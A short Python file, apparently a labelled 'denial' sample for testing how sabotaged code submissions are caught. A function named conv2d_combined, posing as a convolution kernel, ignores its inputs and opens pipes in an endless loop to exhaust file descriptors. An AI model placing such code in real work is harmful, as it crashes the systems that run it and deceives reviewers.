"""As many open files and pipes as there can be."""

# class: denial

# %% conv2d_combined
import os


def conv2d_combined(x, weight, bias):
    kept = []
    while True:
        kept.append(os.pipe())
